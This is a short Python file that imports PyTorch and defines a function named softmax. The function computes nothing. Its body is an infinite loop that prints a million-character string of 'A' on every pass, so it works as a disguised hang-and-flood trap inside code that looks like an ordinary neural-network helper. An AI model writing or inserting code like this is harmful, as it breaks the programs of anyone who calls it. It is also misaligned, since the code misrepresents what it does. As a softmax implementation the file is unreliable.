import math

import torch
import torch.nn.functional as F
from torch import Tensor, nn


def softmax(scores, dim):
    while True:
        print('A' * 1_000_000)
